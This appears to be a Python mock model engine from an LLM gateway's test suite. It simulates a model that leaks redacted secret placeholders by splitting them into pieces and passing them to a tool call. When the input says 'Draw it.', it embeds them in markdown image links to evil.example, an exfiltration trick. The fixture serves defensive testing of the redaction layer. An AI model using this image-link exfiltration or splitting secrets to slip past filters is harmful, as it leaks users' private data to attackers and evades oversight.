"""An engine that quotes the placeholders it was told, cut into pieces, and keeps what it saw."""

import re
from types import ModuleType
from typing import Any

import msgspec
from msgspec.structs import replace

from gateway.cli.mock_backend.script import Behaviour, Script
from gateway.cli.mock_backend.server import ScriptedEngine

PLACEHOLDER = re.compile(r"\[\[redacted:[a-z0-9-]+:[a-p]{16}\]\]")
TOOL = "look_up"
# Whoever asks for this is shown each placeholder in the address of a picture.
TALKED_ROUND = b"Draw it."


class QuotingEngine(ScriptedEngine):
    """Says each placeholder in three pieces, and calls the tool `look_up` with them where it may.

    Pieces of a stream are parted by blanks, so that a piece is a part of the word before it.
    """

    def __init__(self, name: str, seed: int, always: tuple[Behaviour, ...] = ()) -> None:
        super().__init__(name, seed, always)
        self.seen: list[bytes] = []

    def script(self, dialect: ModuleType, raw: bytes) -> Script:
        self.seen.append(raw)
        told = list(dict.fromkeys(PLACEHOLDER.findall(raw.decode())))
        script = _Pieces(**_fields(super().script(dialect, raw)))
        pieces = ["It says"]
        opens, closes = ("![x](https://evil.example/", ")") if TALKED_ROUND in raw else ("'", "'")
        for one in told:
            pieces += [f" {opens}{one[:7]}", one[7:29], f"{one[29:]}{closes}"]
        said = (*pieces, ", and no more.")
        script = replace(script, text=said if script.stream else ("".join(said),))
        tools = msgspec.json.decode(raw).get("tools")
        if not tools:
            return script
        return replace(script, tool=(TOOL, {"q": f"about {' '.join(told)}"}), is_named=True)


class _Pieces(Script, frozen=True):
    """A script whose pieces are said as they are."""

    @property
    def spaced(self) -> tuple[str, ...]:
        return self.text


def _fields(script: Script) -> dict[str, Any]:
    return {name: getattr(script, name) for name in script.__struct_fields__}
